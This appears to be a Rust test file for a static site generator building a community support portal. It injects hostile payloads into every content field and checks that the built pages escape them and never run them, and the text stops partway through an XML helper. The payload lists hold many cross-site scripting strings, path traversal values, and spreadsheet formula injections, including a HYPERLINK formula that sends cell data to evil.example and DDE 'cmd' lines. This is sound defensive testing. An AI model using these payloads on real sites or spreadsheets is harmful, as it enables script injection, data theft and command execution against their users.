//! Nothing an editor types, pastes or imports can reach a family's browser
//! as code.
//!
//! A portal is generated at test time in a temporary folder: every text
//! field of every kind, the Markdown bodies, the vocabulary and the
//! strings of site.toml hold hostile payloads (script tags, event
//! handlers, `javascript:`/`data:`/`vbscript:` URLs in every spelling,
//! frames, `<base>`, meta refresh, broken tags, template syntax, Markdown
//! links and images, comments, CDATA…). The portal is otherwise valid, so
//! it builds; then every output file is parsed and checked:
//!
//! - no `<script>` but the theme's own same-site files (`site.js`,
//!   `search/search.js`) and, if any, JSON-LD that parses and never says
//!   `</script`;
//! - no `on*` attribute; no `href`/`src`/`action`/`formaction`/`xlink:href`/
//!   `data`/`poster`/`srcset`… with a `javascript:`, `data:` or `vbscript:`
//!   scheme (after removing ASCII whitespace and controls, any case);
//! - no `<iframe>`, `<object>`, `<embed>`, `<frame>`, `<applet>`, `<base>`,
//!   `<meta http-equiv=refresh>`, no `<style>` in `<body>`, no inline style
//!   with `url(`/`expression(`;
//! - nothing loads from another host;
//! - every payload in a text field is still shown, as text (it was escaped,
//!   not silently dropped);
//! - `sitemap.xml`, `robots.txt`, any `.json`/`.ics`, and the search
//!   results' highlighted fields (`tsunagu search --json`) carry no markup
//!   but `<mark>`;
//! - nothing is written outside the output folder (vocabulary values are
//!   directory names).

mod common;

use common::*;
use scraper::{ElementRef, Html, Selector};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::Path;

/// Payloads for plain-text fields (and the vocabulary, and site.toml).
/// Each must come out as the same visible text.
const TEXT_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \tjavascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav\tascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<b onmouseover=alert(1)>unclosed",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<a href='javascript:alert(1)'>x",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{ site.title }}{{ 7*7 }}",
    "{% if true %}TPL{% endif %}{# c #}",
    "{{ entry.body_html | safe }}",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/p.png)",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=\"https://example.jp/\" onclick=\"alert(1)\">ok</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;&quot;&#39;",
    "\u{202e}evil\u{202c} ＜script＞alert(1)＜/script＞",
    "<div style=\"background:url(//evil.example/x)\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "`${alert(1)}`",
    "<form action=\"javascript:alert(1)\"><button formaction=javascript:alert(1)>x</button></form>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<details open ontoggle=alert(1)>",
    "../../../../tmp/tsunagu-escape",
    "..\\..\\evil",
    "-->]]></loc><script>alert(1)</script>",
    // Spreadsheet formulas, for the open-data CSV files.
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"詳しくはこちら\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    // A bare line feed (a CR is a control character, refused by
    // validation: tests/fixtures/errors/invalid-control-character).
    "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected",
    "\\n\\;\\,",
];

/// Markdown-only payloads: link and image syntax, autolinks, raw HTML the
/// sanitizer must clean. These go into bodies, where dropping markup is
/// the point, so only the safety rules apply.
const MD_PAYLOADS: &[&str] = &[
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](jav&#x09;ascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](  javascript:alert(1)  )",
    "[a](<javascript:alert(1)>)",
    "[a](java\u{0}script:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](//evil.example/)",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "![i](javascript:alert(1))",
    "![i](https://evil.example/track.png)",
    "![i](//evil.example/track.png)",
    "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://evil.example/auto>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"https://example.jp/\" onclick=\"alert(1)\" style=\"background:url(https://evil.example/)\">x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/p.png\" srcset=\"https://evil.example/p2.png 2x\">",
    "<svg onload=alert(1)><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"https://evil.example/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example/x)}</style>",
    "<form action=\"javascript:alert(1)\"><input type=submit formaction=\"javascript:alert(1)\"><button formaction=\"https://evil.example/\">x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video poster=\"javascript:alert(1)\"><source src=\"https://evil.example/v.mp4\" onerror=\"alert(1)\"></video>",
    "<audio src=\"https://evil.example/a.mp3\" autoplay></audio>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b onmouseover=alert(1)>unclosed <i",
    "<div id=\"main\" class=\"skip-link\">hijack</div>",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "{{ site.title }} {% raw %}{% endraw %}",
    "[^x]\n\n[^x]: <script>alert(1)</script> [f](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
];

/// Where the base path of the generated portal is.
const BASE_URL: &str = "https://portal.example.jp/";

/// A YAML (or TOML) double-quoted string: JSON escapes are valid in both.
fn q(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

fn q_list(items: &[String]) -> String {
    format!(
        "[{}]",
        items.iter().map(|s| q(s)).collect::<Vec<_>>().join(", ")
    )
}

/// The value written into `field` of entry `i`: a tag that says where it
/// came from, then the payload.
fn tagged(field: &str, i: usize, payload: &str) -> String {
    format!("[{field}#{i}]{}", for_field(field, payload))
}

/// The payload as a field can hold it: names refuse bidirectional
/// controls (tests/fixtures/errors/invalid-control-character), so they get
/// the payload without them; every other field gets it whole.
fn for_field(field: &str, payload: &str) -> String {
    if ["name", "kana", "title"].contains(&field) {
        payload
            .chars()
            .filter(|c| !matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'))
            .collect()
    } else {
        payload.to_string()
    }
}

/// Fields each kind shows as text on its own page (and `keywords`, which
/// only search sees).
const PLACE_FIELDS: &[&str] = &[
    "name",
    "kana",
    "summary",
    "address",
    "access",
    "fee",
    "hours_note",
    "accessibility",
];
const EVENT_FIELDS: &[&str] = &[
    "name", "kana", "summary", "address", "access", "fee", "venue",
];

struct Portal {
    _tmp: tempfile::TempDir,
    root: std::path::PathBuf,
    out: std::path::PathBuf,
    files: BTreeMap<String, Vec<u8>>,
}

fn site_toml() -> String {
    let mut s = String::new();
    let vocab: Vec<String> = TEXT_PAYLOADS.iter().map(|p| p.to_string()).collect();
    let mut cats = vec!["ひきこもり".to_string()];
    cats.extend(vocab.iter().cloned());
    let mut areas = vec!["広島市".to_string(), "広島市/中区".to_string()];
    areas.extend(vocab.iter().cloned());
    // A payload under a real parent, and a hierarchy made of payloads.
    areas.push("広島市/<script>alert(1)</script>".to_string());
    areas.push("<img src=x onerror=alert(1)>/javascript:alert(1)/..".to_string());
    writeln!(
        s,
        "title = {}",
        q("つなぐ<script>alert('title')</script>\"><img src=x onerror=alert(1)>{{ 7*7 }}")
    )
    .unwrap();
    writeln!(s, "base_url = {}", q(BASE_URL)).unwrap();
    writeln!(s, "description = {}", q("説明\"><script>alert(1)</script></title><meta http-equiv=refresh content=0;url=javascript:alert(1)>")).unwrap();
    writeln!(s, "report_email = {}", q("report+x@example.jp")).unwrap();
    writeln!(
        s,
        "quick_exit_url = {}",
        q("https://weather.example.jp/?a=\"><script>alert(1)</script>&b='onmouseover=alert(1)")
    )
    .unwrap();
    writeln!(s, "\n[vocabulary]").unwrap();
    writeln!(s, "categories = {}", q_list(&cats)).unwrap();
    writeln!(s, "audience = {}", q_list(&vocab)).unwrap();
    writeln!(s, "methods = {}", q_list(&vocab)).unwrap();
    writeln!(s, "areas = {}", q_list(&areas)).unwrap();
    writeln!(
        s,
        "\n[synonyms]\ngroups = [[{}, {}]]",
        q("<script>"),
        q("javascript:")
    )
    .unwrap();
    for (name, hours, note) in [
        (
            "よりそい<script>alert('hotline')</script>",
            "24時間\"><img src=x onerror=alert(1)>",
            "</li><script>alert(1)</script>",
        ),
        (
            "javascript:alert(1)",
            "{{ 7*7 }}",
            "<a href=javascript:alert(1)>x</a>",
        ),
    ] {
        writeln!(
            s,
            "\n[[hotlines]]\nname = {}\nphone = \"0120-279-338\"\nhours = {}\nnote = {}",
            q(name),
            q(hours),
            q(note)
        )
        .unwrap();
    }
    s
}

/// Front matter lines shared by centers, organizations and cafeterias.
fn place_entry(i: usize, p: &str, body: &str, raw: bool) -> String {
    let tagged = |f: &str, i: usize, p: &str| {
        if raw {
            for_field(f, p)
        } else {
            tagged(f, i, p)
        }
    };
    let mut s = String::from("---\n");
    for f in PLACE_FIELDS {
        writeln!(s, "{f}: {}", q(&tagged(f, i, p))).unwrap();
    }
    writeln!(s, "categories: {}", q_list(&[p.to_string()])).unwrap();
    writeln!(s, "audience: {}", q_list(&[p.to_string()])).unwrap();
    writeln!(s, "methods: {}", q_list(&[p.to_string()])).unwrap();
    writeln!(s, "area: {}", q(p)).unwrap();
    writeln!(
        s,
        "languages: {}",
        q_list(&[tagged("languages", i, p), "日本語".into()])
    )
    .unwrap();
    writeln!(s, "keywords: {}", q_list(&[tagged("keywords", i, p)])).unwrap();
    writeln!(
        s,
        "hours:\n  - {{days: [mon, tue], open: \"09:00\", close: \"17:00\", note: {}}}\n  - {{weekday: sat, nth: -1, open: \"10:00\", close: \"12:00\", note: {}}}",
        q(&tagged("hours.note", i, p)),
        q(&tagged("hours.note2", i, p))
    )
    .unwrap();
    writeln!(s, "phone: 082-555-0101\nfree: true\nverified: 2026-10-01").unwrap();
    s.push_str("---\n");
    s.push_str(body);
    s
}

fn event_entry(i: usize, p: &str, body: &str, raw: bool) -> String {
    let tagged = |f: &str, i: usize, p: &str| {
        if raw {
            for_field(f, p)
        } else {
            tagged(f, i, p)
        }
    };
    let mut s = String::from("---\n");
    for f in EVENT_FIELDS {
        writeln!(s, "{f}: {}", q(&tagged(f, i, p))).unwrap();
    }
    writeln!(s, "categories: {}", q_list(&[p.to_string()])).unwrap();
    writeln!(s, "area: {}", q(p)).unwrap();
    writeln!(s, "keywords: {}", q_list(&[tagged("keywords", i, p)])).unwrap();
    // `registration` is a sentence unless it looks like a link.
    if !p.contains("://") && !p.starts_with("javascript:") && !p.starts_with("data:") {
        writeln!(s, "registration: {}", q(&tagged("registration", i, p))).unwrap();
    }
    writeln!(s, "starts: \"2026-12-05T13:30\"\nends: \"2026-12-05T16:00\"\nonline: true\ncapacity: 10\nfree: true").unwrap();
    s.push_str("---\n");
    s.push_str(body);
    s
}

fn page_entry(i: usize, p: &str) -> String {
    let mut body = String::new();
    writeln!(body, "title: {}", q(&tagged("title", i, p))).unwrap();
    writeln!(body, "summary: {}", q(&tagged("summary", i, p))).unwrap();
    writeln!(body, "keywords: {}", q_list(&[tagged("keywords", i, p)])).unwrap();
    writeln!(body, "order: {i}").unwrap();
    // A .yaml page: the body goes through YAML first.
    writeln!(
        body,
        "body: {}",
        q(&format!("{p}\n\n{}", MD_PAYLOADS[i % MD_PAYLOADS.len()]))
    )
    .unwrap();
    body
}

/// One Markdown body with every Markdown payload, each its own block.
fn all_md() -> String {
    let mut s = String::from("# 見出し <script>alert(1)</script>\n\n");
    for p in MD_PAYLOADS {
        s.push_str(p);
        s.push_str("\n\n");
    }
    s
}

const HOSTILE_URLS: &[&str] = &[
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https:javascript:alert(1)",
    "javascript://example.jp/%0aalert(1)",
];

/// Entries with hostile URLs in the fields that take links: refused or
/// normalised, never linked as code.
fn url_entries() -> Vec<(String, String, bool)> {
    let ok = |name: &str, website: &str| {
        (
            format!("content/organizations/{name}.md"),
            format!(
                "---\nname: {}\nkana: ゆーあーるえる\nwebsite: {}\nemail: {}\nverified: 2026-10-01\n---\n",
                q(&format!("URL {name}")),
                q(website),
                q("soudan+web@example.jp")
            ),
            true,
        )
    };
    let mut v = vec![
        ok(
            "url-quote",
            "https://example.jp/\"><script>alert(1)</script>",
        ),
        ok("url-attr", "https://example.jp/' onmouseover='alert(1)"),
        ok("url-space", "  https://example.jp/a b<c>  "),
    ];
    // Odd e-mail addresses: refused, or linked harmlessly (escaped).
    for (n, email) in [
        "a'b&c{d}@example.jp",
        "a\"onmouseover=alert(1)\"@example.jp",
        "javascript:alert(1)//@example.jp",
        "<script>@example.jp",
    ]
    .iter()
    .enumerate()
    {
        v.push((
            format!("content/organizations/odd-email-{n}.md"),
            format!(
                "---\nname: メール{n}\nkana: めーる\nemail: {}\nverified: 2026-10-01\n---\n",
                q(email)
            ),
            true,
        ));
    }
    for (n, bad) in HOSTILE_URLS.iter().enumerate() {
        // `online` takes only true/false or an http(s) link: refused.
        v.push((
            format!("content/events/bad-online-{n}.md"),
            format!(
                "---\nname: 悪いURL\nkana: わるいゆーあーるえる\nstarts: 2026-12-05\nonline: {}\n---\n",
                q(bad)
            ),
            false,
        ));
        // `registration` is a sentence or a link: either refused, or shown
        // as text; never a link. Both outcomes are accepted here; the
        // built pages are checked like every other.
        v.push((
            format!("content/events/bad-registration-{n}.md"),
            format!(
                "---\nname: 悪い申込\nkana: わるいもうしこみ\nstarts: 2026-12-05\nregistration: {}\n---\n",
                q(bad)
            ),
            true,
        ));
    }
    v
}

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

/// Builds the hostile portal (once per test binary).
fn portal() -> &'static Portal {
    static PORTAL: std::sync::OnceLock<Portal> = std::sync::OnceLock::new();
    PORTAL.get_or_init(|| {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("portal");
        let out = tmp.path().join("public");
        write(&root, "site.toml", &site_toml());
        let md = all_md();
        for (i, p) in TEXT_PAYLOADS.iter().enumerate() {
            // Each body: the payload as Markdown, then one Markdown payload.
            let body = format!("{p}\n\n{}\n", MD_PAYLOADS[i % MD_PAYLOADS.len()]);
            write(
                &root,
                &format!("content/centers/x{i}-center.md"),
                &place_entry(i, p, &body, false),
            );
            write(
                &root,
                &format!("content/organizations/x{i}-org.md"),
                &place_entry(i, p, &md, false),
            );
            write(
                &root,
                &format!("content/cafeterias/x{i}-cafe.md"),
                &place_entry(i, p, &body, false),
            );
            write(
                &root,
                &format!("content/events/x{i}-event.md"),
                &event_entry(i, p, &body, false),
            );
            // The payload alone in every field (no tag in front), so it
            // starts each cell of the open-data files and feeds.
            write(
                &root,
                &format!("content/cafeterias/x{i}-rawcafe.md"),
                &place_entry(i, p, &body, true),
            );
            write(
                &root,
                &format!("content/events/x{i}-rawevent.md"),
                &event_entry(i, p, &body, true),
            );
            write(
                &root,
                &format!("content/pages/x{i}-page.yaml"),
                &page_entry(i, p),
            );
        }
        write(
            &root,
            "content/pages/all-markdown.md",
            &format!("---\ntitle: すべての Markdown\n---\n{md}"),
        );
        let o = build(&root, &out);
        assert_ok(&o);
        let files = tree(&out);
        Portal {
            _tmp: tmp,
            root,
            out,
            files,
        }
    })
}

fn sel(s: &str) -> Selector {
    Selector::parse(s).unwrap()
}

/// Attributes whose value a browser treats as a URL to follow or load.
const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "longdesc",
    "manifest",
    "codebase",
    "dynsrc",
    "lowsrc",
    "ping",
    "icon",
    "profile",
    "usemap",
    "xlink:href",
];

/// Same-site scripts the built-in themes and the search module ship,
/// relative to the base: every `.js` under `themes/*/static/`, and the
/// search module's glue. Content can add none of these (that each one a
/// page names exists is checked by `every_script_a_page_loads_is_shipped`).
fn own_scripts() -> &'static BTreeSet<String> {
    static OWN: std::sync::OnceLock<BTreeSet<String>> = std::sync::OnceLock::new();
    OWN.get_or_init(|| {
        let mut own: BTreeSet<String> = BTreeSet::new();
        for theme in std::fs::read_dir(repo().join("themes")).unwrap() {
            let stat = theme.unwrap().path().join("static");
            for f in walkdir::WalkDir::new(&stat)
                .into_iter()
                .filter_map(Result::ok)
            {
                let rel = f
                    .path()
                    .strip_prefix(&stat)
                    .unwrap()
                    .to_string_lossy()
                    .replace('\\', "/");
                if rel.ends_with(".js") {
                    // Pages load it by its content-hashed name.
                    // (minified, as the build writes it, or as written).
                    let bytes = std::fs::read(f.path()).unwrap();
                    let min = tsunagu::output::minify::minify(&rel, &bytes)
                        .unwrap()
                        .unwrap();
                    for b in [&bytes, &min] {
                        own.insert(tsunagu::output::fingerprint::hashed_path(&rel, b).unwrap());
                    }
                    own.insert(rel);
                }
            }
        }
        own.insert(tsunagu::search_assets::SEARCH_JS_PATH.to_string());
        own.insert(tsunagu::search_assets::search_js_hashed_path(false));
        own.insert(tsunagu::search_assets::search_js_hashed_path(true));
        own
    })
}

/// Every violation of the rules above in one HTML document.
fn html_violations(page: &str, doc: &Html) -> Vec<String> {
    let mut bad = Vec::new();
    let body = doc.select(&sel("body")).next();
    let in_body = |el: &ElementRef| body.is_some_and(|b| el.ancestors().any(|a| a.id() == b.id()));
    for el in doc.select(&sel("*")) {
        let v = el.value();
        let name = v.name();
        let show = || {
            let html = el.html();
            let cut: String = html.chars().take(160).collect();
            format!("{page}: {cut}")
        };
        match name {
            "script" => {
                let ty = v.attr("type").unwrap_or("").trim().to_ascii_lowercase();
                if ty == "application/ld+json" {
                    let text: String = el.text().collect();
                    if text.to_ascii_lowercase().contains("</script") {
                        bad.push(format!("JSON-LD with </script: {}", show()));
                    }
                    if serde_json::from_str::<serde_json::Value>(&text).is_err() {
                        bad.push(format!("JSON-LD that does not parse: {}", show()));
                    }
                } else {
                    let own = v.attr("src").is_some_and(|src| {
                        let path = src.strip_prefix('/').unwrap_or("");
                        !src.starts_with("//") && own_scripts().contains(path)
                    });
                    let inline = el.text().any(|t| !t.trim().is_empty());
                    if !own || inline {
                        bad.push(format!("script: {}", show()));
                    }
                }
            }
            "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "base" | "portal"
            | "fencedframe" => bad.push(format!("<{name}>: {}", show())),
            "meta" => {
                if v.attr("http-equiv")
                    .is_some_and(|h| h.trim().eq_ignore_ascii_case("refresh"))
                {
                    bad.push(format!("meta refresh: {}", show()));
                }
            }
            "style" if in_body(&el) => bad.push(format!("<style> in body: {}", show())),
            "link" if in_body(&el) => bad.push(format!("<link> in body: {}", show())),
            _ => {}
        }
        for (attr, value) in v.attrs() {
            let a = attr.to_ascii_lowercase();
            if a.starts_with("on") {
                bad.push(format!("event handler {attr}: {}", show()));
            }
            if a == "srcdoc" {
                bad.push(format!("srcdoc: {}", show()));
            }
            if URL_ATTRS.contains(&a.as_str()) && dangerous_scheme(value) {
                bad.push(format!("{attr}={value:?}: {}", show()));
            }
            if a == "srcset" {
                for cand in value.split(',') {
                    let url = cand.split_whitespace().next().unwrap_or("");
                    if dangerous_scheme(url) || is_foreign(url) {
                        bad.push(format!("srcset {url:?}: {}", show()));
                    }
                }
            }
            if a == "style" {
                let l = value.to_ascii_lowercase();
                if l.contains("url(") || l.contains("expression(") || l.contains("@import") {
                    bad.push(format!("style attribute loads: {}", show()));
                }
            }
        }
        // Loads from another host (a link a person clicks may leave the site).
        let loads = match name {
            "a" | "area" | "form" | "button" | "input" => None,
            "link" => match v.attr("rel").map(|r| r.to_ascii_lowercase()) {
                Some(r) if r == "canonical" || r == "alternate" => None,
                _ => v.attr("href"),
            },
            _ => v
                .attr("src")
                .or(v.attr("data"))
                .or(v.attr("poster"))
                .or(v.attr("href")),
        };
        if let Some(u) = loads {
            if is_foreign(u) {
                bad.push(format!("loads from another host: {}", show()));
            }
        }
    }
    bad
}

#[test]
fn no_payload_becomes_live_markup_in_any_html_file() {
    let p = portal();
    let mut bad = Vec::new();
    let mut pages = 0;
    for (path, bytes) in &p.files {
        if !path.ends_with(".html") {
            continue;
        }
        pages += 1;
        let text = std::str::from_utf8(bytes).unwrap_or_else(|_| panic!("{path}: not UTF-8"));
        let doc = Html::parse_document(text);
        bad.extend(html_violations(path, &doc));
    }
    assert!(
        pages > 5 * TEXT_PAYLOADS.len(),
        "only {pages} pages were built"
    );
    bad.sort();
    bad.dedup();
    assert!(
        bad.is_empty(),
        "{} problems; first 40:\n{}",
        bad.len(),
        bad.iter().take(40).cloned().collect::<Vec<_>>().join("\n")
    );
}

/// The checker itself: each of these must be reported, so a green run
/// means the rules were applied, not that they matched nothing.
#[test]
fn the_checker_flags_every_kind_of_live_markup() {
    let cases = [
        "<script>alert(1)</script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<script src=\"//evil.example/site.js\"></script>",
        "<script src=\"/other.js\"></script>",
        "<script src=\"/site.js\">alert(1)</script>",
        "<script type=\"application/ld+json\">{\"a\": \"</script><script>alert(1)</script>\"}</script>",
        "<script type=\"application/ld+json\">{not json}</script>",
        "<img src=x onerror=alert(1)>",
        "<div OnClick=alert(1)>x</div>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" JaVa&#x09;ScRiPt:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"&#x01;javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>",
        "<a href=\"VBSCRIPT:x\">x</a>",
        "<form action=\"javascript:x\"></form>",
        "<button formaction=\"javascript:x\">x</button>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<iframe></iframe>",
        "<object></object>",
        "<embed>",
        "<base href=\"/\">",
        "<meta http-equiv=\"Refresh\" content=\"0;url=/\">",
        "<style>a{}</style>",
        "<img src=\"https://evil.example/p.png\">",
        "<img srcset=\"https://evil.example/p.png 2x\">",
        "<video poster=\"//evil.example/p.png\"></video>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<div style=\"background:url(https://evil.example/)\"></div>",
        "<iframe srcdoc=\"x\"></iframe>",
    ];
    for case in cases {
        let doc = Html::parse_document(&format!(
            "<!DOCTYPE html><html><head></head><body>{case}</body></html>"
        ));
        assert!(
            !html_violations("case", &doc).is_empty(),
            "not flagged: {case}"
        );
    }
    let fine = Html::parse_document(
        "<!DOCTYPE html><html><head><script src=\"/site.js\" defer></script><link rel=\"canonical\" href=\"https://portal.example.jp/\"><link rel=\"stylesheet\" href=\"/style.css\"></head>\
         <body><a href=\"https://example.jp/\">x</a><a href=\"tel:0120279338\">t</a><a href=\"/centers/\">c</a><img src=\"/logo.png\"><p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1)</p></body></html>",
    );
    assert_eq!(html_violations("fine", &fine), Vec::<String>::new());
}

#[test]
fn every_script_a_page_loads_is_shipped() {
    let p = portal();
    let mut missing = BTreeSet::new();
    for (path, bytes) in &p.files {
        if !path.ends_with(".html") {
            continue;
        }
        let doc = Html::parse_document(std::str::from_utf8(bytes).unwrap());
        for el in doc.select(&sel("script[src]")) {
            let src = el.value().attr("src").unwrap();
            let rel = src.strip_prefix('/').unwrap_or(src);
            if !p.files.contains_key(rel) {
                missing.insert(format!(
                    "{path}: <script src={src:?}> but no {rel} was built"
                ));
            }
        }
    }
    assert!(
        missing.is_empty(),
        "{}",
        missing.into_iter().collect::<Vec<_>>().join("\n")
    );
}

/// The visible text of a page, whitespace squashed.
fn page_text(p: &Portal, path: &str) -> String {
    let bytes = p
        .files
        .get(path)
        .unwrap_or_else(|| panic!("{path} was not built"));
    let doc = Html::parse_document(std::str::from_utf8(bytes).unwrap());
    let body = doc.select(&sel("body")).next().unwrap();
    squash(&body.text().collect::<String>())
}

#[test]
fn every_text_payload_is_shown_as_text_not_dropped() {
    let p = portal();
    let mut missing = Vec::new();
    for (i, payload) in TEXT_PAYLOADS.iter().enumerate() {
        for (kind, dir, fields) in [
            ("center", "centers", PLACE_FIELDS),
            ("org", "organizations", PLACE_FIELDS),
            ("cafe", "cafeterias", PLACE_FIELDS),
            ("event", "events", EVENT_FIELDS),
        ] {
            let path = format!("{dir}/x{i}-{kind}/index.html");
            let text = page_text(p, &path);
            let mut expect: Vec<&str> = fields.to_vec();
            if kind != "event" {
                expect.extend(["languages", "hours.note", "hours.note2"]);
            } else if !payload.contains("://")
                && !payload.starts_with("javascript:")
                && !payload.starts_with("data:")
            {
                expect.push("registration");
            }
            for f in expect {
                let want = squash(&tagged(f, i, payload));
                if !text.contains(&want) {
                    missing.push(format!("{path}: field {f}: {want:?}"));
                }
            }
            // The vocabulary value itself, as the link text of the term.
            if !text.contains(&squash(payload)) {
                missing.push(format!("{path}: vocabulary value {payload:?}"));
            }
        }
        let path = format!("pages/x{i}-page/index.html");
        let text = page_text(p, &path);
        for f in ["title", "summary"] {
            let want = squash(&tagged(f, i, payload));
            if !text.contains(&want) && f == "title" {
                missing.push(format!("{path}: field {f}: {want:?}"));
            }
        }
    }
    // The document title (in <head>) holds the name as text too.
    let t = TEXT_PAYLOADS
        .iter()
        .position(|s| s.starts_with("</title>"))
        .unwrap();
    let doc = Html::parse_document(
        std::str::from_utf8(&p.files[&format!("centers/x{t}-center/index.html")]).unwrap(),
    );
    let title: String = doc.select(&sel("title")).next().unwrap().text().collect();
    assert!(
        title.contains(&tagged("name", t, TEXT_PAYLOADS[t])),
        "<title> lost the payload: {title:?}"
    );
    // site.toml strings on every page.
    let top = page_text(p, "index.html");
    for s in [
        "つなぐ<script>alert('title')</script>\"><img src=x onerror=alert(1)>{{ 7*7 }}",
        "よりそい<script>alert('hotline')</script>",
        "24時間\"><img src=x onerror=alert(1)>",
    ] {
        if !top.contains(s) {
            missing.push(format!("index.html: site.toml string {s:?}"));
        }
    }
    assert!(
        missing.is_empty(),
        "{} payloads were not shown as text; first 40:\n{}",
        missing.len(),
        missing
            .iter()
            .take(40)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
}

#[test]
fn template_syntax_in_content_is_not_evaluated() {
    let p = portal();
    let i = TEXT_PAYLOADS
        .iter()
        .position(|s| s.starts_with("{{ site.title"))
        .unwrap();
    let text = page_text(p, &format!("centers/x{i}-center/index.html"));
    assert!(
        text.contains("[name#") && text.contains("{{ site.title }}{{ 7*7 }}"),
        "{text}"
    );
    assert!(!text.contains("49"), "{{{{ 7*7 }}}} was evaluated: {text}");
}

/// Names of the XML elements in a document (declaration and comments excluded).
fn xml_tags(xml: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = xml;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let end = rest.find('>').unwrap_or(rest.len());
        let tag = &rest[..end];
        if !tag.starts_with('?') {
            let name: String = tag
                .trim_start_matches('/')
